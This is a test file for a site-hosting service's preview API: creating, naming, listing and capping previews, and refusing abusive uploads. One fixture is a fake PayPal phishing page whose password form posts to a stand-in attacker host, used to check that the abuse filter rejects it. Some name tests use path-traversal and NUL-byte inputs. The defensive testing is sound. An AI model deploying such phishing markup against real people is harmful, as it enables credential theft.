/** BEYOND 7: what a preview is, what is answered of it, and what it leaves alone. */
import { describe, expect, test } from "bun:test";
import { bearer } from "../kit/people.ts";
import { type DeployResult } from "../kit/server.ts";
import { sharedServer } from "../kit/shared.ts";
import { expectSound } from "../kit/sound.ts";
import { pageOf, previewing } from "./previewing.ts";
import { records } from "./site-record.ts";

const DAY = 86_400_000;
const IDS = "0123456789abcdef";

const server = await sharedServer({ SVC_MAX_FILES: "5" });

const { make, post, list, promote, ask, text } = previewing(() => server);
const record = records(() => server);
const versionsOf = async (site: DeployResult) => (await record(site)).versions.map(({ version_id }) => version_id);

describe("POST /sites/:id/previews", () => {
  test("answers with where it is shown, until when, and what it has otherwise than what is live; nothing live moves", async () => {
    const site = await server.deploy(pageOf("live", { "gone.txt": "1", "same.txt": "2" }));
    const made = await make(site, pageOf("draft", { "new.txt": "3", "same.txt": "2" }), "pr-7");
    const { version_id } = made;
    expect(version_id).not.toBe(site.version_id);
    const at = new URL(site.url).host;
    expect(made).toEqual({
      url: `http://pr-7--${at}`,
      version_url: `http://${version_id}--${at}`,
      name: "pr-7",
      site_id: site.site_id,
      slug: site.slug,
      version_id,
      live_url: site.url,
      expires_at: made.expires_at,
      changed: true,
      files: { added: ["new.txt"], changed: ["index.html"], removed: ["gone.txt"] },
      healed: [],
      warnings: [],
    });
    expect(Math.abs(made.expires_at - (server.now() + 30 * DAY))).toBeLessThan(20_000);
    expect(await text(`pr-7--${site.slug}`)).toContain("<p>draft");
    expect(await text(`${version_id}--${site.slug}`)).toContain("<p>draft");
    expect(await text(site.slug)).toContain("<p>live");
  });

  test("without a name it is shown at its version's own address", async () => {
    const site = await server.deploy(pageOf("unnamed"));
    const made = await make(site, pageOf("unnamed draft"));
    expect([made.name, made.url]).toEqual([null, made.version_url]);
    expect(await text(`${made.version_id}--${site.slug}`)).toContain("unnamed draft");
  });

  test("content that is live is no change, and its row is the one that is there", async () => {
    const site = await server.deploy(pageOf("same"));
    const rows = server.rows("versions");
    const made = await make(site, pageOf("same"), "same");
    expect(made).toMatchObject({ changed: false, version_id: site.version_id });
    expect(made.files).toEqual({ added: [], changed: [], removed: [] });
    expect(server.rows("versions")).toBe(rows);
    expect(await text(`same--${site.slug}`)).toContain("<p>same");
    await expectSound(server);
  });

  test("the same name again moves the alias, and what it showed ends, unless another preview shows it", async () => {
    const site = await server.deploy(pageOf("moving"));
    const first = await make(site, pageOf("first"), "next");
    const kept = await make(site, pageOf("first"), "kept");
    expect(kept.version_id).toBe(first.version_id);
    const second = await make(site, pageOf("second"), "next");
    expect(await text(`next--${site.slug}`)).toContain("<p>second");
    expect((await server.site(`${first.version_id}--${site.slug}`)).status).toBe(200);
    await make(site, pageOf("second"), "kept");
    expect((await server.site(`${first.version_id}--${site.slug}`)).status).toBe(404);
    expect((await server.site(`${second.version_id}--${site.slug}`)).status).toBe(200);
    expect(server.rows("previews")).toBeGreaterThanOrEqual(2);
    await expectSound(server);
  });

  test.each([
    ["of lower-case letters and digits", "a1", true],
    ["with single hyphens", "pr-12-fix", true],
    ["of fifteen hex digits", IDS.slice(1), true],
    ["that is empty", "", false],
    ["with a capital", "Main", false],
    ["with a dot", "v1.2", false],
    ["with an underscore", "a_b", false],
    ["that begins with a hyphen", "-a", false],
    ["that ends with a hyphen", "a-", false],
    ["with two hyphens", "a--b", false],
    ["of 16 hex digits, which is a version's", IDS, false],
    ["that browsers take for another writing system's mark", "xn", false],
    ["with letters of another script", "пр", false],
    ["with a line end", "a\nb", false],
    ["with a NUL", "a\0b", false],
    ["that is a path", "../x", false],
  ])("a name %s: %j", async (_, name, fits) => {
    const site = await server.deploy(pageOf("names"));
    const response = await post(site, pageOf("n"), `?name=${encodeURIComponent(name)}`);
    expect(response.status).toBe(fits ? 200 : 400);
    if (fits) expect((await server.site(`${name}--${site.slug}`)).status).toBe(200);
    else expect(await response.json()).toMatchObject({ code: "invalid_input", field: "name" });
  });

  test("a name has with the slug and the two hyphens at most 63 characters", async () => {
    const site = await server.deploy(pageOf("long"));
    const most = 61 - site.slug.length;
    expect((await post(site, pageOf("l"), `?name=${"a".repeat(most)}`)).status).toBe(200);
    expect(await text(`${"a".repeat(most)}--${site.slug}`)).toContain("<p>l");
    expect((await post(site, pageOf("l"), `?name=${"a".repeat(most + 1)}`)).status).toBe(400);
  });

  test("?spa is refused, for the setting is the site's; ?dry_run=1 says what would be and stores nothing", async () => {
    const site = await server.deploy(pageOf("dry"));
    const spa = await post(site, pageOf("d"), "?spa=on");
    expect([spa.status, await spa.json()]).toMatchObject([400, { code: "invalid_input", field: "spa" }]);
    const dry = await post(site, pageOf("d", { "b.txt": "b" }), "?name=dry&dry_run=1");
    expect(await dry.json()).toMatchObject({ dry_run: true, files: { added: ["b.txt"], changed: ["index.html"] } });
    expect(await list(site)).toEqual([]);
    expect((await server.site(`dry--${site.slug}`)).status).toBe(404);
  });

  test("limits and refusals are a deploy's, and nothing of what is refused is stored", async () => {
    const site = await server.deploy(pageOf("limits"));
    const many = Object.fromEntries(Array.from({ length: 6 }, (_, n) => [`${n}.html`, "x"]));
    const phishing =
      '<title>PayPal</title><h1>PayPal</h1><form action="https://evil.example/x"><input type="password" name="p"></form>';
    const rows = server.rows("versions");
    const refused = [
      await post(site, many, "?name=a"),
      await post(site, { "index.html": phishing }, "?name=a"),
      await server.api(`/sites/${site.site_id}/previews`, {
        method: "POST",
        body: "no zip",
        headers: { ...bearer(site.manage_token), "content-type": "application/zip" },
      }),
      await server.api(`/sites/${site.site_id}/previews`, {
        method: "POST",
        body: "{}",
        headers: { ...bearer(site.manage_token), "content-type": "application/json" },
      }),
    ];
    const codes = await Promise.all(refused.map(async (one) => ((await one.json()) as { code: string }).code));
    expect(codes).toEqual(["too_many_files", "abuse_rejected", "invalid_zip", "unsupported_media_type"]);
    expect([server.rows("versions"), await list(site)]).toEqual([rows, []]);
  });

  test.each<[string, (site: DeployResult) => void, number, string]>([
    ["frozen", (site) => server.freeze(site), 403, "site_frozen"],
    ["disabled", (site) => server.disable(site, "malware"), 451, "site_disabled"],
  ])("a %s site takes none, and its previews are neither ended nor promoted", async (_, act, status, code) => {
    const site = await server.deploy(pageOf("stopped"));
    await make(site, pageOf("before"), "before");
    act(site);
    for (const answer of [await post(site, pageOf("x"), "?name=x"), await promote(site, "before")]) {
      expect(answer.status).toBe(status);
      expect(await answer.json()).toMatchObject({ code });
    }
    expect((await server.site(`before--${site.slug}`)).status).toBe(code === "site_frozen" ? 200 : 451);
  });
});

describe("a preview's version", () => {
  test("is not in `versions`, no target of rollback and no `before`", async () => {
    const site = await server.deploy(pageOf("listed"));
    const made = await make(site, pageOf("unlisted"), "un");
    expect(await versionsOf(site)).toEqual([site.version_id]);
    const back = await server.rollback(site, made.version_id);
    expect([back.status, await back.json()]).toMatchObject([404, { code: "unknown_version" }]);
    const headers = bearer(site.manage_token);
    expect((await server.api(`/sites/${site.site_id}?before=${made.version_id}`, { headers })).status).toBe(404);
  });

  test("is in `versions` where it is or was live, however it is shown beside", async () => {
    const site = await server.deploy(pageOf("one"));
    const two = await server.redeploy(site, pageOf("two"));
    const made = await make(site, pageOf("one"), "again");
    expect(made.version_id).toBe(site.version_id);
    expect(await versionsOf(site)).toEqual([two.version_id, site.version_id]);
  });

  test("is live and the newest once it is deployed as any, and its preview goes on showing it", async () => {
    const site = await server.deploy(pageOf("old"));
    const made = await make(site, pageOf("ahead"), "ahead");
    const middle = await server.redeploy(site, pageOf("middle"));
    const { version_id } = await server.redeploy(site, pageOf("ahead"));
    expect(version_id).toBe(made.version_id);
    expect(await versionsOf(site)).toEqual([version_id, middle.version_id, site.version_id]);
    expect(await text(site.slug)).toContain("<p>ahead");
    expect((await list(site)).map(({ name }) => name)).toEqual(["ahead"]);
    await expectSound(server);
  });
});

describe("GET /sites/:id/previews", () => {
  test("lists them newest first, each with where it is, what it shows and when it ends", async () => {
    const site = await server.deploy(pageOf("list"));
    const older = await make(site, pageOf("older"), "older");
    server.advance(1000);
    const newer = await make(site, pageOf("newer"));
    const [first, second] = await list(site);
    const { url, version_url, version_id, expires_at } = newer;
    expect(first).toEqual({
      name: null,
      url,
      version_url,
      version_id,
      title: "newer",
      created_at: new Date(expires_at - 30 * DAY).toISOString(),
      expires_at,
    });
    expect(second).toMatchObject({ name: "older", url: older.url, expires_at: older.expires_at });
    server.advance(1000);
    await make(site, pageOf("older"), "older");
    expect((await list(site)).map(({ name }) => name)).toEqual(["older", null]);
  });

  test("is empty where there is none", async () => {
    const response = await ask(await server.deploy(pageOf("none")), "GET", "");
    expect([response.status, await response.json()]).toEqual([200, { previews: [] }]);
  });

  test("at most 20 a site: the oldest goes, with its version", async () => {
    const site = await server.deploy(pageOf("many"));
    const made = [];
    for (let n = 0; n <= 20; n++) {
      made.push(await make(site, pageOf(`many ${n}`), `p${n}`));
      server.advance(10);
    }
    expect((await list(site)).map(({ name }) => name)).toEqual(Array.from({ length: 20 }, (_, n) => `p${20 - n}`));
    expect((await server.site(`p0--${site.slug}`)).status).toBe(404);
    expect((await server.site(`${made[0]!.version_id}--${site.slug}`)).status).toBe(404);
    expect((await server.site(`p1--${site.slug}`)).status).toBe(200);
    await expectSound(server);
  });
});
